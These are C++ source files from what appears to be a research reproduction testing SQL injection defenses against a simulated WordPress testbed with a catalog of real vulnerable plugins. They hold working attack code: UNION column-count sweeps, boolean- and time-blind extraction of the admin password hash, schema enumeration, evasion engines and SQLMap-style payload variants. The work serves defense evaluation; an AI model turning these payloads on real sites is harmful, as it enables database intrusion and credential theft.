    "OR (SELECT IF(pass > CHAR(";
inline constexpr std::string_view kKitTimeTail =
    "), SLEEP(2), 0) FROM wp_users WHERE id = 1)";

// PHP source a rich plugin ships to put the kit into the fragment
// vocabulary.
std::string RichUnionSource();
std::string RichBlindSource();
std::string RichTimeSource();

}  // namespace joza::attack
