#include "attack/extractor.h"

#include "attack/exploit.h"

#include "util/strings.h"

namespace joza::attack {

namespace {

// "CHAR(97,100,109,105,110)" — a quote-free string literal.
std::string CharLiteral(std::string_view s) {
  std::string out = "CHAR(";
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (i > 0) out += ",";
    out += std::to_string(static_cast<unsigned char>(s[i]));
  }
  out += ")";
  return out;
}

}  // namespace

http::Response Extractor::Send(const std::string& payload) {
  ++requests_;
  return SendPayload(app_, plugin_, payload);
}

std::string Extractor::WrapCondition(const std::string& cond) const {
  // Context-appropriate carrier for an attacker-chosen boolean.
  const std::string head = plugin_.quoted ? "zzz' " : "0 ";
  const std::string tail = plugin_.quoted ? " -- a" : "";
  if (plugin_.mode == webapp::ResponseMode::kDoubleBlind) {
    return head + "or (select if(" + cond +
           ", sleep(1), 0) from wp_users where id = 1)" + tail;
  }
  return head + "or (" + cond + ")" + tail;
}

bool Extractor::Oracle(const std::string& cond) {
  if (plugin_.mode == webapp::ResponseMode::kDoubleBlind) {
    http::Response r = Send(WrapCondition(cond));
    return r.virtual_time_ms > 500.0;
  }
  // Boolean channel: compare against a known-false response baseline.
  http::Response truthy = Send(WrapCondition(cond));
  http::Response falsy = Send(WrapCondition("1 = 2"));
  return truthy.status != falsy.status || truthy.body != falsy.body;
}

bool Extractor::ProbeInjectable() {
  if (plugin_.mode == webapp::ResponseMode::kDoubleBlind) {
    http::Response fast = Send(WrapCondition("1 = 2"));
    http::Response slow = Send(WrapCondition("1 = 1"));
    return slow.virtual_time_ms - fast.virtual_time_ms > 500.0;
  }
  http::Response t = Send(WrapCondition("1 = 1"));
  http::Response f = Send(WrapCondition("1 = 2"));
  return t.status != f.status || t.body != f.body;
}

ExtractionResult Extractor::ExtractViaUnion(std::size_t max_len) {
  ExtractionResult result;
  result.technique = "union";

  // Column-count discovery: append NULL columns until the union stops
  // erroring (the classic sweep — our engine raises the same "different
  // number of columns" error MySQL does).
  const std::string head = plugin_.quoted ? "zzz' " : "0 ";
  const std::string tail = plugin_.quoted ? " -- a" : "";
  const std::string target =
      "pass from wp_users where login = " + CharLiteral("admin");
  for (int columns = 1; columns <= 8; ++columns) {
    std::string arm = "union select ";
    for (int i = 0; i < columns - 1; ++i) arm += "null, ";
    arm += target;
    http::Response r = Send(head + arm + tail);
    if (r.body.find("Database error") != std::string::npos) continue;
    if (r.status != 200) continue;
    // The hash is whatever non-null cell the page renders that a benign
    // no-match request does not render.
    http::Response benign = Send(plugin_.quoted ? "zzz" : "0");
    if (r.body == benign.body) continue;  // union row didn't render
    // Crude cell harvest: strip the list markup of the testbed pages.
    std::string body = r.body;
    for (const char* tag : {"<ul>", "</ul>", "<li>", "NULL | ", " | NULL"}) {
      std::size_t pos;
      while ((pos = body.find(tag)) != std::string::npos) {
        body.erase(pos, std::string(tag).size());
      }
    }
    std::size_t end = body.find("</li>");
    if (end != std::string::npos) body = body.substr(0, end);
    result.injectable = true;
    result.extracted = body.substr(0, max_len);
    result.success = !result.extracted.empty();
    result.requests_used = requests_;
    return result;
  }
  result.requests_used = requests_;
  return result;
}

ExtractionResult Extractor::ExtractViaOracle(std::size_t max_len,
                                             const char* name) {
  ExtractionResult result;
  result.technique = name;
  result.injectable = ProbeInjectable();
  if (!result.injectable) {
    result.requests_used = requests_;
    return result;
  }
  const std::string admin = CharLiteral("admin");
  for (std::size_t i = 1; i <= max_len; ++i) {
    // Binary search ascii(substring(pass, i, 1)) in [0, 127].
    int lo = 0, hi = 127;
    while (lo < hi) {
      int mid = (lo + hi) / 2;
      const std::string cond =
          "select count(*) from wp_users where login = " + admin +
          " and ascii(substring(pass, " + std::to_string(i) + ", 1)) > " +
          std::to_string(mid);
      if (Oracle("(" + cond + ") > 0")) {
        lo = mid + 1;
      } else {
        hi = mid;
      }
    }
    if (lo == 0) break;  // past the end of the secret: ASCII('') = 0
    result.extracted.push_back(static_cast<char>(lo));
  }
  result.success = !result.extracted.empty();
  result.requests_used = requests_;
  return result;
}

std::vector<std::string> Extractor::EnumerateTables() {
  if (plugin_.mode != webapp::ResponseMode::kData) return {};
  const std::string head = plugin_.quoted ? "zzz' " : "0 ";
  const std::string tail = plugin_.quoted ? " -- a" : "";
  for (int columns = 1; columns <= 8; ++columns) {
    std::string arm = "union select ";
    for (int i = 0; i < columns - 1; ++i) arm += "null, ";
    arm += "group_concat(table_name) from information_schema.tables";
    http::Response r = Send(head + arm + tail);
    if (r.status != 200 ||
        r.body.find("Database error") != std::string::npos) {
      continue;
    }
    // The concatenated list is the only cell containing commas between
    // identifier-looking words; harvest it from the rendered row.
    std::size_t li = r.body.find("<li>");
    if (li == std::string::npos) continue;
    std::size_t end = r.body.find("</li>", li);
    std::string cell = r.body.substr(li + 4, end - li - 4);
    // Strip any leading "NULL | " paddings from the null columns.
    std::size_t pos;
    while ((pos = cell.find("NULL | ")) != std::string::npos) {
      cell.erase(pos, 7);
    }
    std::vector<std::string> tables;
    for (const std::string& name : Split(cell, ',')) {
      if (!name.empty()) tables.push_back(name);
    }
    if (!tables.empty()) return tables;
  }
  return {};
}

ExtractionResult Extractor::ExtractSecret(std::size_t max_len) {
  switch (plugin_.mode) {
    case webapp::ResponseMode::kData:
      return ExtractViaUnion(max_len);
    case webapp::ResponseMode::kBlind:
      return ExtractViaOracle(max_len, "boolean-blind");
    case webapp::ResponseMode::kDoubleBlind:
      return ExtractViaOracle(max_len, "time-blind");
  }
  return {};
}

}  // namespace joza::attack
