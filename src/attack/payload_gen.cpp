#include "attack/payload_gen.h"

#include <set>

#include "util/rng.h"
#include "util/strings.h"

namespace joza::attack {

namespace {

// Random token-level case mutation ("uNiOn SeLeCt" style).
std::string MutateCase(Rng& rng, const std::string& s) {
  std::string out = s;
  for (char& c : out) {
    if (IsAsciiAlpha(c)) {
      c = rng.NextBool() ? AsciiToUpper(c) : AsciiToLower(c);
    }
  }
  return out;
}

// Whitespace dialect: single spaces sometimes doubled.
std::string MutateWhitespace(Rng& rng, const std::string& s) {
  std::string out;
  for (char c : s) {
    out.push_back(c);
    if (c == ' ' && rng.NextBool(0.3)) out.push_back(' ');
  }
  return out;
}

// A random always-true boolean expression.
std::string RandomTautologyTerm(Rng& rng) {
  switch (rng.NextBelow(5)) {
    case 0: {
      auto n = rng.NextInRange(2, 99);
      return std::to_string(n) + "=" + std::to_string(n);
    }
    case 1: {
      auto n = rng.NextInRange(2, 9);
      return std::to_string(n + 1) + ">" + std::to_string(n);
    }
    case 2: return "1=1";
    case 3: {
      auto n = rng.NextInRange(10, 99);
      return "(" + std::to_string(n) + "=" + std::to_string(n) + ")";
    }
    default: {
      auto n = rng.NextInRange(2, 9);
      return std::to_string(n) + " between 1 and 10";
    }
  }
}

std::string TrailingComment(Rng& rng) {
  switch (rng.NextBelow(3)) {
    case 0: return " -- a";
    case 1: return " -- " + rng.NextToken(3);
    default: return " #";
  }
}

}  // namespace

std::vector<Exploit> GenerateSqlmapPayloads(const PluginSpec& plugin,
                                            std::size_t count,
                                            std::uint64_t seed) {
  Rng rng(seed ^ 0x5a17ab);
  std::vector<Exploit> out;
  std::set<std::string> seen;

  const Exploit base = OriginalExploit(plugin);
  std::size_t guard = 0;
  while (out.size() < count && ++guard < count * 64) {
    Exploit e = base;
    switch (plugin.type) {
      case AttackType::kTautology: {
        std::string term = RandomTautologyTerm(rng);
        if (plugin.quoted) {
          e.payload = rng.NextToken(3) + "' or " + term + TrailingComment(rng);
        } else {
          e.payload = "-" + std::to_string(rng.NextInRange(1, 9)) + " or " +
                      term;
        }
        break;
      }
      case AttackType::kUnionBased: {
        // Vary the breakout marker / spacing / case around the union arm.
        e.payload = MutateWhitespace(rng, MutateCase(rng, base.payload));
        break;
      }
      case AttackType::kStandardBlind:
      case AttackType::kDoubleBlind: {
        // Sweep the probe character (the binary-search oracle) and mutate
        // case/whitespace; both probes get the same dialect.
        const std::string probe_true =
            std::to_string(rng.NextInRange(97, 115));   // <= 's'
        const std::string probe_false =
            std::to_string(rng.NextInRange(117, 125));  // > 's', < '~'
        std::string t = base.payload;
        std::string f = base.false_payload;
        auto swap_code = [](std::string s, const std::string& code) {
          std::size_t pos = s.find("char(");
          if (pos != std::string::npos) {
            std::size_t close = s.find(')', pos);
            s.replace(pos + 5, close - pos - 5, code);
          }
          return s;
        };
        Rng dialect(rng.Next());
        Rng dialect_copy = dialect;
        e.payload =
            MutateWhitespace(dialect, MutateCase(dialect, swap_code(t, probe_true)));
        e.false_payload = MutateWhitespace(
            dialect_copy, MutateCase(dialect_copy, swap_code(f, probe_false)));
        break;
      }
    }
    if (seen.insert(e.payload).second) out.push_back(std::move(e));
  }
  return out;
}

}  // namespace joza::attack
