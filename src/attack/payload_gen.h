// SQLMap-style payload generation (Table II, second experiment).
//
// The paper ran SQLMap against four plugins (one per attack class) and got
// ~40 valid payload variants each. This generator derives the same kind of
// variant space from a working exploit: whitespace dialects, case
// mutations, comment styles, alternative tautology forms, probe-value
// sweeps and parenthesization.
#pragma once

#include <cstdint>
#include <vector>

#include "attack/catalog.h"
#include "attack/exploit.h"

namespace joza::attack {

// Generates `count` distinct, *valid* exploit variants for the plugin.
// Deterministic for a given seed.
std::vector<Exploit> GenerateSqlmapPayloads(const PluginSpec& plugin,
                                            std::size_t count,
                                            std::uint64_t seed);

}  // namespace joza::attack
