// WP-SQLI-LAB analogue: the catalog of vulnerable plugin models.
//
// The paper's testbed packages WordPress 3.8 with 50 plugins publicly
// reported vulnerable to SQL injection (Table IV), plus Joomla, Drupal and
// osCommerce case studies. Each entry here models one of them: the
// vulnerable endpoint (parameter, transform chain, query template,
// response mode) and the plugin's own source vocabulary. The transform
// chain and vocabulary are the two knobs that decide which defenses each
// exploit variant beats, mirroring the per-plugin behaviour in Table IV.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "webapp/application.h"

namespace joza::attack {

// Table I's four attack classes.
enum class AttackType { kUnionBased, kStandardBlind, kDoubleBlind, kTautology };

const char* AttackTypeName(AttackType t);

struct PluginSpec {
  std::string name;
  std::string version;
  std::string advisory;  // CVE / OSVDB id, empty if none collected
  AttackType type = AttackType::kUnionBased;

  // The vulnerable endpoint.
  std::string route;
  std::string param;
  webapp::TransformChain transforms;
  std::string query_prefix;
  std::string query_suffix;
  bool quoted = false;
  webapp::ResponseMode mode = webapp::ResponseMode::kData;
  // Number of columns the vulnerable SELECT projects (union payloads must
  // match it, as in real column-count sweeps).
  int select_columns = 1;

  // Extra PHP source shipped by this plugin beyond the synthesized query
  // construction (admin pages, maintenance queries, ...). Rich vocabularies
  // here are what make a plugin Taintless-evadable.
  std::string extra_source;

  // One of the three standalone application case studies (Joomla / Drupal /
  // osCommerce) rather than a WordPress plugin.
  bool standalone_app = false;

  std::string SourcePath() const;
};

// The 50 WordPress plugin models (Table IV order) followed by the Joomla,
// Drupal and osCommerce case studies — 53 entries total. Deterministic.
const std::vector<PluginSpec>& PluginCatalog();

// Slices of the catalog.
std::vector<const PluginSpec*> TestbedPlugins();     // first 50
std::vector<const PluginSpec*> CaseStudyApps();      // last 3

// The webapp endpoint this plugin model exposes.
webapp::Endpoint EndpointFor(const PluginSpec& plugin);

// Installs every catalog endpoint (and its sources) into the application.
void InstallCatalog(webapp::Application& app);

// Builds the complete WP-SQLI-LAB testbed: WordPress-like core + catalog.
std::unique_ptr<webapp::Application> MakeTestbed(std::uint64_t seed = 2015);

}  // namespace joza::attack
