// Benign workload generation (false-positive testing and Tables V-VII).
//
// Models the paper's crawler: full site reads, random comment posting and
// random searches, plus the WordPress.com traffic statistics used to derive
// the real-world read/write mix (Table VII).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "http/request.h"
#include "util/rng.h"

namespace joza::attack {

struct WorkloadRequest {
  http::Request request;
  bool is_write = false;
};

// Read requests: front page, posts, benign plugin lookups.
std::vector<WorkloadRequest> MakeCrawlWorkload(std::size_t count,
                                               std::uint64_t seed);

// Write requests: random comment posting (with punctuation-heavy bodies to
// stress the detectors).
std::vector<WorkloadRequest> MakeCommentWorkload(std::size_t count,
                                                 std::uint64_t seed);

// Random search requests (dynamic queries: never structure-cache hits).
std::vector<WorkloadRequest> MakeSearchWorkload(std::size_t count,
                                                std::uint64_t seed);

// Interleaved mix with the given write fraction (Table VI's workloads).
std::vector<WorkloadRequest> MakeMixedWorkload(std::size_t count,
                                               double write_fraction,
                                               std::uint64_t seed);

// --- Table VII: WordPress.com traffic statistics ----------------------------

// Yearly averages (synthesized to match the public WordPress.com activity
// reports of 2010-2014; the original table's absolute numbers are not in
// the paper text available to us — the derived write fraction is what the
// experiment needs).
struct WpComYearStats {
  int year;
  double new_posts_millions;
  double new_pages_millions;
  double new_comments_millions;
  double rpc_posts_millions;   // app/API-driven writes
  double page_views_millions;  // reads
};

const std::vector<WpComYearStats>& WordpressComStats();

// Fraction of requests that are writes, per the stats (< 1%).
double WpComWriteFraction();

}  // namespace joza::attack
