// The two evasion engines of Section V-A.
//
// * NTI mutation — exploits application-level input transformations to
//   drive the input↔query edit distance over NTI's threshold: comment
//   blocks stuffed with quotes when magic quotes is active, trailing
//   whitespace when the application trims, and transport encodings that
//   hide the payload from NTI entirely.
// * Taintless — the automated PTI evasion tool: rebuilds the attack from
//   string fragments available in the application (case-matching tokens,
//   substituting equivalents, dropping removable tokens), then verifies
//   the candidate both evades PTI and still exploits.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "attack/catalog.h"
#include "attack/exploit.h"
#include "nti/nti.h"
#include "phpsrc/fragments.h"
#include "pti/pti.h"

namespace joza::attack {

struct NtiMutation {
  bool possible = false;
  Exploit exploit;
  std::string technique;  // "transport-encoding" | "quote-comment" |
                          // "whitespace-padding" | "" when impossible
};

// Adapts `original` to evade NTI with the given threshold. Fails (possible
// = false) when the plugin applies no exploitable transformation — the
// input reaches the query verbatim and padding would match verbatim too.
NtiMutation MutateForNtiEvasion(const PluginSpec& plugin,
                                const Exploit& original,
                                const nti::NtiConfig& nti_config);

struct TaintlessResult {
  bool success = false;
  Exploit exploit;
  std::string strategy;  // which candidate construction won
  std::size_t candidates_tried = 0;
};

// Runs Taintless against one plugin: generates candidates from the
// application vocabulary, keeps the first that (a) PTI deems safe and
// (b) still succeeds end-to-end against the unprotected application.
TaintlessResult RunTaintless(const PluginSpec& plugin,
                             const pti::PtiAnalyzer& pti,
                             webapp::Application& unprotected_app);

// Uppercases keyword/function tokens of a payload (Taintless' case-match
// step); exposed for tests.
std::string RecaseSqlTokens(const std::string& payload);

}  // namespace joza::attack
