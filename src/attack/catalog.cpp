#include "attack/catalog.h"

#include "attack/vocab_kits.h"
#include "util/strings.h"

namespace joza::attack {

const char* AttackTypeName(AttackType t) {
  switch (t) {
    case AttackType::kUnionBased: return "Union Based";
    case AttackType::kStandardBlind: return "Standard Blind";
    case AttackType::kDoubleBlind: return "Double Blind";
    case AttackType::kTautology: return "Tautology";
  }
  return "?";
}

std::string RichUnionSource() {
  return "<?php\n$export_tool = \"" + std::string(kKitUnion2) + "\";\n";
}

std::string RichBlindSource() {
  return "<?php\n$chk_head = \"" + std::string(kKitBlindHead) +
         "\";\n$chk_tail = \"" + std::string(kKitBlindTail) + "\";\n";
}

std::string RichTimeSource() {
  return "<?php\n$probe_head = \"" + std::string(kKitTimeHead) +
         "\";\n$probe_tail = \"" + std::string(kKitTimeTail) + "\";\n";
}

std::string PluginSpec::SourcePath() const {
  std::string slug;
  for (char c : name) {
    slug.push_back(IsAsciiAlnum(c) ? AsciiToLower(c) : '-');
  }
  if (standalone_app) return "apps/" + slug + "/index.php";
  return "wp-content/plugins/" + slug + "/" + slug + ".php";
}

namespace {

using webapp::ResponseMode;
using webapp::Transform;
using webapp::TransformChain;

std::string RouteFor(std::string_view name) {
  std::string slug;
  for (char c : name) {
    slug.push_back(IsAsciiAlnum(c) ? AsciiToLower(c) : '-');
  }
  return "/plugins/" + slug;
}

// The standard chains. WordPress enforces magic quotes on all input; the
// classic plugin bug is undoing them with stripslashes (which is what makes
// quoted contexts exploitable at all), and WordPress additionally trims
// input from authenticated users.
const TransformChain kMagicOnly = {Transform::kMagicQuotes};
const TransformChain kClassicBug = {Transform::kMagicQuotes,
                                    Transform::kStripSlashes,
                                    Transform::kTrim};
// The two NTI-mutation-resistant plugins: they undo magic quotes but do
// not trim, so no application-level transformation is left to exploit.
const TransformChain kNoTransformBug = {Transform::kMagicQuotes,
                                        Transform::kStripSlashes};

// Quoted string context, 1 projected column, data rendered (union class).
PluginSpec QuotedUnion(std::string name, std::string version,
                       std::string advisory) {
  PluginSpec p;
  p.name = std::move(name);
  p.version = std::move(version);
  p.advisory = std::move(advisory);
  p.type = AttackType::kUnionBased;
  p.route = RouteFor(p.name);
  p.param = "item";
  p.transforms = kClassicBug;
  p.query_prefix = "SELECT title FROM wp_posts WHERE title = ";
  p.query_suffix = " LIMIT 1";
  p.quoted = true;
  p.mode = ResponseMode::kData;
  p.select_columns = 1;
  return p;
}

// Unquoted numeric context, 2 columns, plugin ships the union kit.
PluginSpec RichUnion(std::string name, std::string version,
                     std::string advisory) {
  PluginSpec p;
  p.name = std::move(name);
  p.version = std::move(version);
  p.advisory = std::move(advisory);
  p.type = AttackType::kUnionBased;
  p.route = RouteFor(p.name);
  p.param = "id";
  p.transforms = kMagicOnly;
  p.query_prefix = "SELECT title, views FROM wp_posts WHERE id = ";
  p.query_suffix = "";
  p.quoted = false;
  p.mode = ResponseMode::kData;
  p.select_columns = 2;
  p.extra_source = RichUnionSource();
  return p;
}

PluginSpec QuotedBlind(std::string name, std::string version,
                       std::string advisory, bool nti_resistant = false) {
  PluginSpec p;
  p.name = std::move(name);
  p.version = std::move(version);
  p.advisory = std::move(advisory);
  p.type = AttackType::kStandardBlind;
  p.route = RouteFor(p.name);
  p.param = "q";
  p.transforms = nti_resistant ? kNoTransformBug : kClassicBug;
  p.query_prefix = "SELECT id FROM wp_posts WHERE title = ";
  p.query_suffix = " LIMIT 10";
  p.quoted = true;
  p.mode = ResponseMode::kBlind;
  p.select_columns = 1;
  return p;
}

PluginSpec RichBlind(std::string name, std::string version,
                     std::string advisory) {
  PluginSpec p;
  p.name = std::move(name);
  p.version = std::move(version);
  p.advisory = std::move(advisory);
  p.type = AttackType::kStandardBlind;
  p.route = RouteFor(p.name);
  p.param = "id";
  p.transforms = kMagicOnly;
  p.query_prefix = "SELECT id FROM wp_posts WHERE id = ";
  p.query_suffix = "";
  p.quoted = false;
  p.mode = ResponseMode::kBlind;
  p.select_columns = 1;
  p.extra_source = RichBlindSource();
  return p;
}

PluginSpec QuotedDoubleBlind(std::string name, std::string version,
                             std::string advisory,
                             bool nti_resistant = false) {
  PluginSpec p;
  p.name = std::move(name);
  p.version = std::move(version);
  p.advisory = std::move(advisory);
  p.type = AttackType::kDoubleBlind;
  p.route = RouteFor(p.name);
  p.param = "ref";
  p.transforms = nti_resistant ? kNoTransformBug : kClassicBug;
  p.query_prefix = "SELECT id FROM wp_posts WHERE title = ";
  p.query_suffix = " LIMIT 5";  // keeps the closing quote in a fragment
  p.quoted = true;
  p.mode = ResponseMode::kDoubleBlind;
  p.select_columns = 1;
  return p;
}

PluginSpec RichDoubleBlind(std::string name, std::string version,
                           std::string advisory) {
  PluginSpec p;
  p.name = std::move(name);
  p.version = std::move(version);
  p.advisory = std::move(advisory);
  p.type = AttackType::kDoubleBlind;
  p.route = RouteFor(p.name);
  p.param = "id";
  p.transforms = kMagicOnly;
  p.query_prefix = "SELECT id FROM wp_posts WHERE id = ";
  p.query_suffix = "";
  p.quoted = false;
  p.mode = ResponseMode::kDoubleBlind;
  p.select_columns = 1;
  p.extra_source = RichTimeSource();
  return p;
}

// Unquoted tautology against the users table — the classic auth-area leak.
PluginSpec Tautology(std::string name, std::string version,
                     std::string advisory) {
  PluginSpec p;
  p.name = std::move(name);
  p.version = std::move(version);
  p.advisory = std::move(advisory);
  p.type = AttackType::kTautology;
  p.route = RouteFor(p.name);
  p.param = "uid";
  p.transforms = kMagicOnly;
  p.query_prefix = "SELECT login, pass FROM wp_users WHERE id = ";
  p.query_suffix = "";
  p.quoted = false;
  p.mode = ResponseMode::kData;
  p.select_columns = 2;
  return p;
}

std::vector<PluginSpec> BuildCatalog() {
  std::vector<PluginSpec> c;
  c.reserve(53);

  // --- Tautology (4) --------------------------------------------------------
  c.push_back(Tautology("A to Z Category Listing", "1.3", "OSVDB-86069"));
  {
    // AdRotate: base64-encoded input in a quoted context. NTI never sees
    // the decoded payload — the one testbed exploit NTI misses outright.
    PluginSpec p;
    p.name = "AdRotate";
    p.version = "3.6.6";
    p.advisory = "CVE-2011-4671";
    p.type = AttackType::kTautology;
    p.route = RouteFor(p.name);
    p.param = "track";
    p.transforms = {Transform::kBase64Decode};
    p.query_prefix = "SELECT login, pass FROM wp_users WHERE login = ";
    // Quoted endpoints need a suffix so the closing quote lives inside a
    // contextual fragment ("' LIMIT 1") rather than becoming a bare "'"
    // fragment that would cover attacker-supplied quotes anywhere.
    p.query_suffix = " LIMIT 1";
    p.quoted = true;
    p.mode = ResponseMode::kData;
    p.select_columns = 2;
    c.push_back(std::move(p));
  }
  c.push_back(Tautology("Community Events", "1.2.1", "OSVDB-74573"));
  c.push_back(Tautology("WP eCommerce", "3.8.6", "OSVDB-75590"));

  // --- Union based (15): 4 rich + 11 quoted --------------------------------
  c.push_back(RichUnion("Allow PHP in posts and pages", "2.0.0", "OSVDB-75252"));
  c.push_back(RichUnion("Contus HD FLV Player", "1.3", ""));
  c.push_back(RichUnion("Count per Day", "2.17", "OSVDB-75598"));
  c.push_back(RichUnion("Crawl Rate Tracker", "2.02", ""));
  c.push_back(QuotedUnion("Eventify", "1.7.f", "OSVDB-86245"));
  c.push_back(QuotedUnion("File Groups", "1.1.2", "OSVDB-74572"));
  c.push_back(QuotedUnion("IP-Logger", "3.0", ""));
  c.push_back(QuotedUnion("Link Library", "5.2.1", "OSVDB-84579"));
  c.push_back(QuotedUnion("Media Library Categories", "1.0.6", ""));
  c.push_back(QuotedUnion("OdiHost Newsletter", "1.0", "OSVDB-74575"));
  c.push_back(QuotedUnion("Paid Downloads", "2.01", "OSVDB-86247"));
  c.push_back(QuotedUnion("post highlights", "2.2", ""));
  c.push_back(QuotedUnion("ProPlayer", "4.7.7", ""));
  c.push_back(QuotedUnion("SearchAutocomplete", "1.0.8", ""));
  c.push_back(QuotedUnion("SH Slideshow", "3.1.4", "OSVDB-74813"));

  // --- Standard blind (17): 3 rich + 13 quoted + 1 NTI-resistant -----------
  c.push_back(RichBlind("GD Star Rating", "1.9.10", "OSVDB-83466"));
  c.push_back(RichBlind("iCopyright", "1.1.4", ""));
  c.push_back(RichBlind("KNR Author List Widget", "2.0.0", ""));
  c.push_back(QuotedBlind("Easy Contact Form Lite", "1.0.7", ""));
  c.push_back(QuotedBlind("FireStorm Real Estate Plugin", "2.06", ""));
  c.push_back(QuotedBlind("MM Duplicate", "1.2", ""));
  c.push_back(QuotedBlind("MyStat", "2.6", ""));
  c.push_back(QuotedBlind("Social Slider", "5.6.5", "OSVDB-74421"));
  c.push_back(QuotedBlind("UMP Polls", "1.0.3", ""));
  c.push_back(QuotedBlind("Paypal Donation Plugin", "0.12", ""));
  c.push_back(QuotedBlind("WP Audio Gallery Playlist", "0.12", ""));
  c.push_back(QuotedBlind("WP Bannerize", "2.8.7", "OSVDB-76658"));
  c.push_back(QuotedBlind("WP FileBase", "0.2.9", "OSVDB-75308"));
  c.push_back(QuotedBlind("WP Forum Server", "1.7.8", "CVE-2012-6625"));
  c.push_back(QuotedBlind("WP Menu Creator", "1.1.7", "OSVDB-74578"));
  c.push_back(QuotedBlind("yolink Search for WordPress", "1.1.4",
                          "OSVDB-74832"));
  // NTI-mutation-resistant: stripslashes but no trim — no transformation
  // left for the attacker to hide behind.
  c.push_back(QuotedBlind("Profiles", "2.0.RC1", "", /*nti_resistant=*/true));

  // --- Double blind (14): 3 rich + 10 quoted + 1 NTI-resistant -------------
  c.push_back(RichDoubleBlind("Advertiser", "1.0", ""));
  c.push_back(RichDoubleBlind("Ajax Gallery", "3.0", ""));
  c.push_back(RichDoubleBlind("Couponer", "1.2", ""));
  c.push_back(QuotedDoubleBlind("Event Registration plugin", "5.43", ""));
  c.push_back(QuotedDoubleBlind("Facebook Promotions", "1.3.3", ""));
  c.push_back(QuotedDoubleBlind("Global Content Blocks", "1.2",
                                "OSVDB-74577"));
  c.push_back(QuotedDoubleBlind("Js-appointment", "1.5", "OSVDB-74804"));
  c.push_back(QuotedDoubleBlind("Mingle Forum", "1.0.31", "OSVDB-75791"));
  c.push_back(QuotedDoubleBlind("SCORM Cloud", "1.0.6.6", ""));
  c.push_back(QuotedDoubleBlind("VideoWhisper Video Presentation", "1.1", ""));
  c.push_back(QuotedDoubleBlind("Facebook Opengraph Meta", "1.0", ""));
  c.push_back(QuotedDoubleBlind("WP DS FAQ", "1.3.2", "OSVDB-74574"));
  c.push_back(QuotedDoubleBlind("Zotpress", "4.4", ""));
  c.push_back(QuotedDoubleBlind("PureHTML", "1.0.0", "",
                                /*nti_resistant=*/true));

  // --- Case-study applications (3) ------------------------------------------
  {
    // Joomla 3.0.1 (CVE-2013-1453): encoded input, 3-column context.
    PluginSpec p;
    p.name = "Joomla";
    p.version = "3.0.1";
    p.advisory = "CVE-2013-1453";
    p.type = AttackType::kUnionBased;
    p.route = "/apps/joomla";
    p.param = "list";
    p.transforms = {Transform::kUrlDecode, Transform::kMagicQuotes};
    p.query_prefix = "SELECT id, title, views FROM wp_posts WHERE id = ";
    p.quoted = false;
    p.mode = ResponseMode::kData;
    p.select_columns = 3;
    p.standalone_app = true;
    c.push_back(std::move(p));
  }
  {
    // Drupal 7.31 (CVE-2014-3704): input flows into placeholder names of a
    // "prepared" query, modelled as an unquoted 3-column context behind an
    // extra decode layer.
    PluginSpec p;
    p.name = "Drupal";
    p.version = "7.31";
    p.advisory = "CVE-2014-3704";
    p.type = AttackType::kUnionBased;
    p.route = "/apps/drupal";
    p.param = "name";
    p.transforms = {Transform::kUrlDecode, Transform::kMagicQuotes};
    p.query_prefix = "SELECT id, login, email FROM wp_users WHERE id = ";
    p.quoted = false;
    p.mode = ResponseMode::kData;
    p.select_columns = 3;
    p.standalone_app = true;
    c.push_back(std::move(p));
  }
  {
    // osCommerce 2.3.3.4 (OSVDB-103365): tautology in geo_zones.php.
    PluginSpec p;
    p.name = "osCommerce";
    p.version = "2.3.3.4";
    p.advisory = "OSVDB-103365";
    p.type = AttackType::kTautology;
    p.route = "/apps/oscommerce";
    p.param = "zid";
    p.transforms = kMagicOnly;
    p.query_prefix = "SELECT login, pass FROM wp_users WHERE id = ";
    p.quoted = false;
    p.mode = ResponseMode::kData;
    p.select_columns = 2;
    p.standalone_app = true;
    c.push_back(std::move(p));
  }
  return c;
}

}  // namespace

const std::vector<PluginSpec>& PluginCatalog() {
  static const std::vector<PluginSpec> catalog = BuildCatalog();
  return catalog;
}

std::vector<const PluginSpec*> TestbedPlugins() {
  std::vector<const PluginSpec*> out;
  for (const PluginSpec& p : PluginCatalog()) {
    if (!p.standalone_app) out.push_back(&p);
  }
  return out;
}

std::vector<const PluginSpec*> CaseStudyApps() {
  std::vector<const PluginSpec*> out;
  for (const PluginSpec& p : PluginCatalog()) {
    if (p.standalone_app) out.push_back(&p);
  }
  return out;
}

webapp::Endpoint EndpointFor(const PluginSpec& p) {
  webapp::Endpoint ep;
  ep.path = p.route;
  ep.param = p.param;
  ep.transforms = p.transforms;
  ep.query_prefix = p.query_prefix;
  ep.query_suffix = p.query_suffix;
  ep.quoted = p.quoted;
  ep.mode = p.mode;
  return ep;
}

void InstallCatalog(webapp::Application& app) {
  for (const PluginSpec& p : PluginCatalog()) {
    app.AddEndpoint(EndpointFor(p), p.SourcePath());
    if (!p.extra_source.empty()) {
      app.AddSourceFile({p.SourcePath() + ".inc", p.extra_source});
    }
  }
}

std::unique_ptr<webapp::Application> MakeTestbed(std::uint64_t seed) {
  auto app = webapp::MakeWordpressLikeApp(seed);
  InstallCatalog(*app);
  return app;
}

}  // namespace joza::attack
