// Automated data-extraction driver — the role SQLMap plays in Section V.
//
// Given a vulnerable endpoint, the extractor (a) probes injectability,
// (b) extracts the admin password hash through whichever channel the
// endpoint exposes: directly via UNION on data-rendering endpoints,
// character-by-character binary search over a boolean oracle on blind
// endpoints, or over the timing side channel on double-blind endpoints.
// All probe payloads are quote-free (CHAR()/ASCII()/SUBSTRING()) so they
// survive magic quotes, exactly like real tooling.
#pragma once

#include <cstddef>
#include <string>
#include <vector>

#include "attack/catalog.h"
#include "webapp/application.h"

namespace joza::attack {

struct ExtractionResult {
  bool injectable = false;
  bool success = false;
  std::string technique;       // "union" | "boolean-blind" | "time-blind"
  std::string extracted;       // recovered secret (prefix, if aborted)
  std::size_t requests_used = 0;
};

class Extractor {
 public:
  Extractor(webapp::Application& app, const PluginSpec& plugin)
      : app_(app), plugin_(plugin) {}

  // True/false boolean probe pair: injectable iff the two responses are
  // observably different (body, status, or timing).
  bool ProbeInjectable();

  // Recovers wp_users.pass of the admin (up to max_len characters).
  ExtractionResult ExtractSecret(std::size_t max_len = 16);

  // Schema discovery (the first step of real tooling): enumerates user
  // table names by pivoting a UNION into information_schema.tables with
  // GROUP_CONCAT. Data-rendering endpoints only; empty on failure.
  std::vector<std::string> EnumerateTables();

  std::size_t requests_used() const { return requests_; }

 private:
  http::Response Send(const std::string& payload);
